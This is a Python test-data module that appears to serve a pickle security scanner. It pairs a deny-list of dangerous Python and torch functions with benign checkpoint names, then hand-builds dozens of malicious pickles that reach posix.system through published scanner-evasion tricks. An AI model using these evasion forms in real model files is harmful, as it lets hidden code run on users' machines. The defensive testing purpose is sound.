"""Pickles that would run something, by name: published ways past other scanners, and ways to reach a function.

The names are facts of advisories on picklescan and fickling of 2025 and 2026, of their lists and modelscan's, and of
the functions that the standard library and torch have for running what they are given. None of these files is run.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

__all__ = ["BENIGN", "FORMS", "MALICIOUS", "NAMES", "named", "reduced"]

NAMES = """
os.system posix.system nt.system subprocess.run subprocess.Popen subprocess.getoutput _posixsubprocess.fork_exec
builtins.eval builtins.exec builtins.compile builtins.__import__ builtins.open builtins.breakpoint builtins.globals
builtins.getattr builtins.setattr __builtin__.eval __builtin__.apply __builtin__.execfile __builtin__.file
sys.exit sys.settrace sys.setprofile os.execv os.popen os.remove os.kill os.putenv shutil.rmtree shutil.copyfile
importlib.import_module importlib.util.spec_from_file_location importlib.machinery.SourceFileLoader imp.load_source
pkgutil.resolve_name zipimport.zipimporter runpy.run_path runpy._run_code _frozen_importlib._gcd_import
pydoc.locate pydoc.pipepager pydoc.tempfilepager pty.spawn code.InteractiveInterpreter.runcode code.interact
codeop.compile_command cProfile.run cProfile.runctx profile.run profile.Profile.run profile.Profile.runctx
pdb.run pdb.runeval bdb.Bdb.run trace.Trace.run trace.Trace.runctx timeit.timeit timeit.repeat doctest.debug_script
doctest.testmod idlelib.autocomplete.AutoComplete.get_entity idlelib.autocomplete.AutoComplete.fetch_completions
idlelib.calltip.Calltip.fetch_tip idlelib.calltip.get_entity idlelib.debugobj.ObjectTreeItem.SetText
idlelib.pyshell.ModifiedInterpreter.runcode idlelib.pyshell.ModifiedInterpreter.runcommand idlelib.run.Executive.runcode
lib2to3.pgen2.grammar.Grammar.loads lib2to3.pgen2.pgen.ParserGenerator.make_label ensurepip._run_pip venv.create pip.main
pip._internal.cli.main.main asyncio.unix_events._UnixSubprocessTransport._start asyncio.create_subprocess_shell
multiprocessing.util.spawnv_passfds multiprocessing.Process multiprocessing.popen_spawn_posix.Popen threading.Thread
_thread.start_new_thread concurrent.futures.ProcessPoolExecutor signal.signal atexit.register sched.scheduler
ctypes.CDLL ctypes.cdll.LoadLibrary _ctypes.dlopen ctypes.string_at socket.create_connection ssl.get_server_certificate
http.client.HTTPSConnection httplib.HTTPSConnection urllib.request.urlopen urllib2.urlopen requests.api.get requests.get
aiohttp.client.ClientSession smtplib.SMTP ftplib.FTP imaplib.IMAP4_stream poplib.POP3 telnetlib.Telnet nntplib.NNTP
xmlrpc.client.ServerProxy webbrowser.open antigravity.geohash uuid._get_command_stdout uuid._popen
_osx_support._read_output _osx_support._find_build_tool _aix_support._read_cmd_output _pyrepl.pager.pipe_pager
_pyrepl.pager.tempfile_pager test.support.script_helper.assert_python_ok _interpreters.run_string
_xxsubinterpreters.run_string mailcap.findmatch platform.popen distutils.file_util.write_file
distutils.spawn.spawn setuptools.sandbox.run_setup pkg_resources.run_script site.main site.addsitedir
tempfile.mkdtemp fileinput.input glob.glob linecache.getlines logging.FileHandler logging.config.fileConfig
logging.config.listen io.open _io.FileIO _io.open codecs.open gzip.open bz2.open lzma.open tarfile.open zipfile.ZipFile
sqlite3.connect shelve.open dbm.open marshal.loads pickle.loads pickle.load _pickle.loads _pickle.Unpickler
dill.loads dill._dill._create_function joblib.load cloudpickle.loads cloudpickle.cloudpickle._make_function
cloudpickle.cloudpickle._builtin_type cloudpickle.cloudpickle._function_setstate cloudpickle.cloudpickle._make_cell
cloudpickle.cloudpickle._make_empty_cell cloudpickle.cloudpickle.subimport jsonpickle.decode yaml.unsafe_load
types.CodeType types.FunctionType types.MethodType types.ModuleType operator.attrgetter operator.methodcaller
operator.itemgetter _operator.attrgetter _operator.methodcaller functools.reduce builtins.map builtins.filter
itertools.starmap typing.ForwardRef typing.get_type_hints inspect.getsource ast.literal_eval gc.get_objects
unittest.mock._importer xml.etree.ElementTree.parse tkinter.Tk turtle.Screen py_compile.compile compileall.compile_dir
time.sleep copyreg.pickle readline.read_init_file resource.setrlimit mmap.mmap fcntl.fcntl select.select
numpy.load numpy.fromfile numpy.memmap numpy.savetxt numpy.f2py.crackfortran.getlincoef
numpy.f2py.crackfortran._eval_length numpy.testing._private.utils.runstring numpy.testing.runstring
numpy.distutils.exec_command.exec_command numpy.ctypeslib.load_library numpy.lib.npyio.DataSource numpy.vectorize
pandas.read_pickle pandas.io.pickle.read_pickle pandas.eval
torch.load torch.serialization.load torch.hub.load torch.hub.load_state_dict_from_url torch.jit.load
torch.jit.unsupported_tensor_ops.execWrapper torch.ops.load_library torch.classes.load_library torch._ops.load_library
torch.utils.cpp_extension.load torch.utils.cpp_extension.load_inline torch.utils.model_zoo.load_url
torch.utils.bottleneck.__main__.run_cprofile torch.utils.bottleneck.__main__.run_autograd_prof
torch.utils.collect_env.run torch.utils.collect_env.run_and_read_all torch.utils._config_module.ConfigModule.load_config
torch.utils.data.datapipes.utils.decoder.basichandlers torch._dynamo.guards.GuardBuilder.get
torch._inductor.codecache.compile_file torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
torch.fx.graph_module.reduce_graph_module torch.package.PackageImporter torch.distributed.rpc.rpc_sync
torch.distributed.run.main torch.distributed.elastic.multiprocessing.start_processes torch.multiprocessing.spawn
torch.storage._load_from_bytes torch.os.system torch.sys.exit torch.nn.modules.module.importlib.import_module
numpy.os.system collections.sys.exit random._os.system tempfile._os.system pathlib.os.system logging.os.system
functools.partial.__reduce__ builtins.object.__subclasses__ builtins.type.__subclasses__ mine.Model.__init__.__globals__
mine.helper.__builtins__ mine.helper.__code__ mine.helper.__class__.__base__
huggingface_hub.hf_hub_download transformers.dynamic_module_utils.get_class_from_dynamic_module
IPython.get_ipython pytest.main _pytest.config.main execnet.makegateway psutil.Popen pexpect.spawn paramiko.SSHClient
picklescan.scanner.scan_file_path fickling.hook.deactivate_safe_ml_environment
""".split()
"""Functions that run, open, fetch or reach something."""

BENIGN = """
collections.OrderedDict collections.Counter collections.defaultdict collections.deque torch._utils._rebuild_tensor_v2
torch._utils._rebuild_parameter torch.FloatStorage torch.nn.modules.linear.Linear torch.nn.functional.relu
torch._C._nn.gelu torch.optim.adamw.AdamW torch.optim.lr_scheduler.LambdaLR torch.device torch.Size torch.float32
numpy.ndarray numpy.dtype numpy.core.multiarray._reconstruct numpy._core.multiarray.scalar numpy.random._pickle.__randomstate_ctor
numpy.random._pickle.__generator_ctor argparse.Namespace pathlib.PosixPath pathlib._local.PosixPath datetime.datetime
decimal.Decimal fractions.Fraction uuid.UUID enum.Enum functools.partial types.SimpleNamespace _codecs.encode
builtins.set builtins.slice builtins.object builtins.int builtins.ValueError copyreg._reconstructor re._compile
omegaconf.dictconfig.DictConfig omegaconf.base.ContainerMetadata transformers.training_args.TrainingArguments
transformers.trainer_utils.IntervalStrategy transformers.trainer_pt_utils.AcceleratorConfig accelerate.state.PartialState
pytorch_lightning.callbacks.model_checkpoint.ModelCheckpoint lightning.fabric.utilities.data.AttributeDict
deepspeed.runtime.fp16.loss_scaler.LossScaler deepspeed.runtime.zero.config.ZeroStageEnum deepspeed.utils.tensor_fragment.fragment_address
hippynn.graphs.graph.GraphModule hippynn.experiment.controllers.RaiseBatchSizeOnPlateau chgnet.model.model.CHGNet
timm.models.vision_transformer.VisionTransformer torchvision.models.resnet.ResNet sklearn.preprocessing._data.StandardScaler
pandas.core.frame.DataFrame pandas._libs.internals._unpickle_block scipy.sparse._csr.csr_matrix
torch.distributed.checkpoint.metadata.Metadata torch.distributed._shard.sharded_tensor.api.ShardedTensor
torch.distributed.tensor.DTensor torch.jit._pickle.build_intlist __torch__.Model __main__.Config mine.code.Trainer
mine.trace.Tracer mine.site.Site mine.commands.Train mine.os_utils.Paths
""".split()
"""Names that honest checkpoints hold."""


def _global(name: str) -> bytes:
    """The name by GLOBAL, split as picklers split it: what begins with a capital letter belongs to the object."""
    parts = name.split(".")
    at = next((i for i, part in enumerate(parts) if part[:1].isupper() and i), len(parts) - 1)
    return b"c" + ".".join(parts[:at]).encode() + b"\n" + ".".join(parts[at:]).encode() + b"\n"


def _text(word: str) -> bytes:
    data = word.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def reduced(name: str) -> bytes:
    """A dict of a call of the name, as a pickler writes it."""
    return b"\x80\x02}" + _text("x") + _global(name) + _text("echo hostile") + b"\x85Rs."


def named(name: str) -> bytes:
    """A dict that holds the class or function itself."""
    return b"\x80\x02}" + _text("x") + _global(name) + b"s."


_OS = b"\x8c\x05posix\x8c\x06system"
_LS = b"\x8c\x02ls\x85"

FORMS: dict[str, bytes] = {
    "reduce": b"\x80\x04" + _OS + b"\x93" + _LS + b"R.",
    "protocol 0": b"cposix\nsystem\n(S'ls'\ntR.",
    "inst": b"(S'ls'\niposix\nsystem\n.",
    "obj": b"(cposix\nsystem\nS'ls'\no.",
    "newobj": b"\x80\x02cposix\nsystem\nX\x02\0\0\0ls\x85\x81.",
    "newobj_ex": b"\x80\x04" + _OS + b"\x93" + _LS + b"}\x92.",
    "result thrown away": b"\x80\x04" + _OS + b"\x93" + _LS + b"R0N.",
    "result thrown away by a mark": b"\x80\x04(" + _OS + b"\x93" + _LS + b"R1N.",
    "result as a key": b"\x80\x04}" + _OS + b"\x93" + _LS + b"RNs.",
    "result as a state": b"\x80\x04\x8c\x04mine\x8c\x01A\x93)\x81" + _OS + b"\x93" + _LS + b"Rb.",
    "result as an argument": b"\x80\x04\x8c\x04mine\x8c\x01A\x93" + _OS + b"\x93" + _LS + b"R\x85R.",
    "result as a persistent id": b"\x80\x04" + _OS + b"\x93" + _LS + b"RQ.",
    "names out of the memo": b"\x80\x04\x8c\x06system\x94\x8c\x05posix\x9400h\x01h\x00\x93" + _LS + b"R.",
    "names put and memoized": b"\x80\x04\x8c\x05posixq\x000\x8c\x06systemq\x010\x8c\x0ctorch._utils\x940\x8c\x12_rebuild_tensor_v2"
    b"\x940h\x00h\x01\x93" + _LS + b"R.",
    "names far in the memo": b"\x80\x04\x8c\x05posixr\xff\xff\xff\x7f\x8c\x06systemr\xfe\xff\xff\x7f00j\xff\xff\xff\x7fj\xfe\xff\xff\x7f\x93"
    + _LS + b"R.",
    "function out of the memo": b"\x80\x04" + _OS + b"\x93\x940\x8c\x00h\x00" + _LS + b"R\x86.",
    "function by a dotted name": b"\x80\x04\x8c\x05torch\x8c\x09os.system\x93" + _LS + b"R.",
    "function through getattr": b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x05posix\x8c\x06system\x93\x8c\x08__call__\x86R" + _LS + b"R.",
    "function through import and getattr": b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x08builtins\x8c\x0a__import__\x93\x8c\x05posix"
    b"\x85R\x8c\x06system\x86R" + _LS + b"R.",
    "function through attrgetter": b"\x80\x04\x8c\x08operator\x8c\x0aattrgetter\x93\x8c\x06system\x85R\x8c\x09importlib\x8c\x0dimport_module"
    b"\x93\x8c\x05posix\x85R\x85R" + _LS + b"R.",
    "function through methodcaller": b"\x80\x04\x8c\x08operator\x8c\x0cmethodcaller\x93\x8c\x06system\x8c\x02ls\x86R\x8c\x09importlib"
    b"\x8c\x0dimport_module\x93\x8c\x05posix\x85R\x85R.",
    "function through resolve_name": b"\x80\x04\x8c\x07pkgutil\x8c\x0cresolve_name\x93\x8c\x0cposix:system\x85R" + _LS + b"R.",
    "function through partial": b"\x80\x04\x8c\x09functools\x8c\x07partial\x93" + _OS + b"\x93\x8c\x02ls\x86R)R.",
    "function through map": b"\x80\x04\x8c\x08builtins\x8c\x04list\x93\x8c\x08builtins\x8c\x03map\x93" + _OS + b"\x93](\x8c\x02lse\x86R\x85R.",
    "function through a default": b"\x80\x04\x8c\x0bcollections\x8c\x0bdefaultdict\x93\x8c\x04mine\x8c\x01f\x93\x85R" + _OS + b"\x93b.",
    "function as a value": b"\x80\x04}\x8c\x01f" + _OS + b"\x93s.",
    "function as a state": b"\x80\x04\x8c\x04mine\x8c\x01A\x93)\x81}\x8c\x01f" + _OS + b"\x93sb.",
    "function set on a class": b"\x80\x04\x8c\x04mine\x8c\x01A\x93N}\x8c\x08__call__" + _OS + b"\x93s\x86b.",
    "attributes set on a function": b"cnumpy\nprod\nN(Va\nVposix\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\n0cnumpy\nprod.b\np1\n0"
    b"g0\ng1\n\x93Vls\n\x85R.",
    "pickle in a pickle": b"\x80\x04\x8c\x06pickle\x8c\x05loads\x93C\x1bcposix\nsystem\n(S'ls'\ntR.\x85R."
    .replace(b"\x1b", bytes([len(b"cposix\nsystem\n(S'ls'\ntR.")])),
    "pickle in torch's own loader": b"\x80\x04\x8c\x0dtorch.storage\x8c\x10_load_from_bytes\x93C\x05cos\n.\x85R.",
    "modules replaced": b"\x80\x04\x8c\x03sys\x8c\x07modules\x93\x8c\x05torchNs.",
    "an exception": b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93\x8c\x05raise\x85RN.",
    "text escapes": b"c\x70osix\nsystem\n(V\\u006cs\ntR.",
    "builtins of Python 2": b"c__builtin__\neval\n(S'1'\ntR.",
    "a name as bytes": b"\x80\x04C\x05posix\x8c\x06system\x93" + _LS + b"R.",
    "a name out of a call": b"\x80\x04\x8c\x08builtins\x8c\x03str\x93\x8c\x05posix\x85R\x8c\x06system\x93" + _LS + b"R.",
    "cut off after the call": b"\x80\x04" + _OS + b"\x93" + _LS + b"R",
    "garbage after the call": b"\x80\x04" + _OS + b"\x93" + _LS + b"R\xff\xff",
    "a frame that lies": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + _OS + b"\x93" + _LS + b"R.",
    "protocol in the middle": b"N0\x80\x02" + _OS.replace(b"\x8c", b"\x8c") + b"\x93" + _LS + b"R.",
    "an extension code": b"\x80\x02\x82\x01" + b"X\x02\0\0\0ls\x85R.",
    "a buffer out of band": b"\x80\x05" + _OS + b"\x93\x97\x85R.",
}  # fmt: skip
"""How a function is reached -> the pickle."""

MALICIOUS: dict[str, Callable[[], bytes]] = {
    **{f"name: {name}": lambda name=name: reduced(name) for name in NAMES},  # type: ignore[misc]
    **{f"form: {form}": lambda form=form: FORMS[form] for form in FORMS},  # type: ignore[misc]
}
"""Name -> what makes the pickle."""
